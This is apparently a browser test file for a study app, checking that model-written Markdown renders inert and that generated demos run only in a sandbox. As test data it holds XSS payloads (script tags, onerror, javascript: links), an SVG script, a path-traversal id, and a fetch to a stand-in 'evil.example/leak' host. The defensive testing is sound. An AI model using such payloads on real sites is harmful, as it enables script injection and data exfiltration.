"""What a model writes is shown, never run: hostile Markdown renders inert (while code is
highlighted and maths typeset), and a generated demo runs only inside its sandbox."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from studyhall.core.contracts.chat import ChatRecord, DataPart, Message, SteerPart, TextPart
from studyhall.core.contracts.jobs import Job
from studyhall.core.workbench.steer import artifact_data

from tests.support.live_server import start_server

pytestmark = pytest.mark.browser

HOSTILE = """Here is *markdown* with `inline code`:

<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'img'">
<iframe src="http://evil.example/frame"></iframe>
[a link](javascript:window.__pwned='link') and [a real one](https://example.org/page)
![remote pixel](http://evil.example/pixel.png)
<a href="http://evil.example" onclick="window.__pwned='a'">click</a>

```python
def area(r):
    return 3.14159 * r ** 2
```

Euler: $e^{i\\pi} + 1 = 0$, and

$$\\int_0^1 x\\,dx = \\frac{1}{2}$$
"""


def test_model_output_with_script_and_onerror_renders_inert(window, tmp_path):
    server = start_server(tmp_path / "data", {"prober": [{"text": HOSTILE}],
                                              "labeler": [{"text": "Safety"}]})
    try:
        page = window.page
        page.goto(server.launch_url)
        page.wait_for_selector("body[data-ready='1']")
        page.keyboard.press("n")
        page.fill("#new-topic", "markdown safety")
        page.keyboard.press("Enter")
        page.wait_for_selector(".msg-assistant .prose math")
        page.wait_for_selector("body[data-turn='idle']")
        prose = page.locator(".msg-assistant .prose").first
        text = prose.inner_text()
        # The markup is shown as text...
        assert "<script>window.__pwned = 'script'</script>" in text
        assert '<img src="x" onerror=' in text
        # ...and nothing of it became an element or ran.
        assert page.evaluate("() => window.__pwned") is None
        found = page.evaluate("""() => {
            const root = document.querySelector('.transcript');
            const handlers = [...root.querySelectorAll('*')].flatMap(
                (el) => [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name));
            return {
                scripts: root.querySelectorAll('script').length,
                iframes: root.querySelectorAll('iframe').length,
                imgs: root.querySelectorAll('img').length,
                handlers,
                hrefs: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')),
                math: root.querySelectorAll('math').length,
                keywords: root.querySelectorAll('.hljs-keyword').length,
            };
        }""")
        assert found["scripts"] == 0 and found["iframes"] == 0 and found["imgs"] == 0
        assert found["handlers"] == []
        assert not any(h and h.lower().startswith("javascript") for h in found["hrefs"])
        assert "https://example.org/page" in found["hrefs"]
        assert found["math"] == 2 and found["keywords"] >= 1  # maths typeset, code highlighted
        assert page.locator(".remote-image").inner_text() == "[image: remote pixel]"
        window.shot("15-inert-markdown")
    finally:
        server.stop()


DEMO = """<!doctype html><html><body><p id="out">not run</p><button id="b">More</button>
<script>
const out = document.getElementById('out');
let parentBlocked = false;
try { parent.document.title; } catch (e) { parentBlocked = true; }
let cookie = 'readable';
try { cookie = document.cookie === undefined ? 'none' : 'readable'; } catch (e) { cookie = 'blocked'; }
out.textContent = 'ran';
out.dataset.parent = parentBlocked ? 'blocked' : 'reachable';
out.dataset.cookie = cookie;
fetch('http://evil.example/leak').then(() => { out.dataset.fetch = 'sent'; },
                                       () => { out.dataset.fetch = 'blocked'; });
</script></body></html>"""

SVG = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 80"><title>Cycle</title>'
       '<rect x="5" y="5" width="190" height="70" rx="10" fill="#e8f2ec"/>'
       '<text x="100" y="46" text-anchor="middle" font-size="16">glucose → ATP</text>'
       '<script>parent.__pwned = "svg"</script></svg>')


def _artifact_chat(server) -> str:
    t0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    jobs = [
        Job(id="job_demo", chat_id="chat_art", kind="demo", status="done", outcome="done",
            input={"concept": "Slopes", "brief": "drag a point"}, attempts=1,
            result={"title": "Slope explorer", "description": "Move the point; see the slope.",
                    "html": DEMO}, created_at=t0, updated_at=t0),
        Job(id="job_visual", chat_id="chat_art", kind="visual", status="done", outcome="done",
            input={"subject": "Respiration"}, attempts=1,
            result={"title": "Respiration", "description": "Glucose becomes ATP.", "svg": SVG},
            created_at=t0, updated_at=t0),
        Job(id="job_cards", chat_id="chat_art", kind="flashcards", status="done", outcome="done",
            input={"topic": "graphs"}, attempts=1,
            result={"artifacts": {"flashcards": {"title": "Graph basics", "cards": [
                {"front": "What joins two vertices?", "back": "An edge."},
                {"front": "A tree on n vertices has how many edges?", "back": "n − 1."}]}},
                    "failed": {}}, created_at=t0, updated_at=t0),
    ]
    messages = [
        Message(id="m1", role="user", parts=(TextPart(text="Show me slopes"),), created_at=t0),
        Message(id="m2", role="assistant", agent="teacher", created_at=t0,
                parts=(TextPart(text="I asked for a demo; it will appear below."),
                       DataPart(name="job", data={"job_id": "job_demo", "kind": "demo",
                                                  "status": "running", "title": "Slopes"}))),
    ]
    for n, job in enumerate(jobs):
        server.services.job_store.save(job)
        messages.append(Message(
            id=f"steer_{job.id}", role="user", created_at=t0 + timedelta(minutes=n + 1),
            parts=(SteerPart(steer_id=f"steer_{job.id}", kind="job"),
                   TextPart(text=f"The {job.kind} is ready."),
                   DataPart(name="artifact", data=artifact_data(job)))))
    server.services.chat_store.create(ChatRecord(
        id="chat_art", topic="slopes", title="Slopes", created_at=t0, updated_at=t0,
        messages=tuple(messages)))
    return "chat_art"


def test_artifacts_are_cards_and_a_demo_runs_only_in_its_sandbox(window, tmp_path):
    server = start_server(tmp_path / "data", {"labeler": [{"text": "x"}]})
    try:
        chat_id = _artifact_chat(server)
        page = window.page
        page.goto(server.launch_url)
        page.wait_for_selector("body[data-ready='1']")
        page.goto(f"{server.url}/#/session/{chat_id}")
        page.wait_for_selector(".artifact[data-kind='demo'] iframe")
        # Steers are cards, never chat bubbles.
        assert page.locator(".msg-user").count() == 1
        assert page.locator(".artifact").count() == 3
        frame_el = page.locator(".artifact[data-kind='demo'] iframe")
        assert frame_el.get_attribute("sandbox") == "allow-scripts"
        frame = page.frame_locator(".artifact[data-kind='demo'] iframe")
        frame.locator("#out[data-fetch]").wait_for()  # it ran, and its fetch settled
        out = frame.locator("#out")
        assert out.inner_text() == "ran"
        assert out.get_attribute("data-parent") == "blocked"
        assert out.get_attribute("data-cookie") == "blocked"
        assert out.get_attribute("data-fetch") == "blocked"
        # The diagram is an image: its script never runs.
        assert page.locator(".artifact[data-kind='visual'] img.diagram").is_visible()
        assert page.evaluate("() => window.__pwned") is None
        page.locator(".flashcard summary").first.click()
        assert "An edge." in page.locator(".flashcard").first.inner_text()
        assert "ready below" in page.locator(".job-chip").inner_text()
        page.locator(".artifact[data-kind='demo']").scroll_into_view_if_needed()
        page.wait_for_timeout(300)  # the sandboxed frame paints in its own process
        window.shot("16-artifact-cards")
    finally:
        server.stop()


def test_demo_frame_refuses_what_is_not_a_finished_demo(window, tmp_path):
    server = start_server(tmp_path / "data", None)
    try:
        _artifact_chat(server)
        page = window.page
        page.goto(server.launch_url)
        page.wait_for_selector("body[data-ready='1']")
        status = page.evaluate("""async () => Promise.all(['job_visual', 'nope', '..%2Fx', 'job_demo']
            .map(async (id) => (await fetch('/api/frames/demo/' + id)).status))""")
        assert status == [404, 404, 404, 200]
        csp = page.evaluate("async () => (await fetch('/api/frames/demo/job_demo'))"
                            ".headers.get('content-security-policy')")
        assert "sandbox allow-scripts" in csp and "connect-src 'none'" in csp
    finally:
        server.stop()
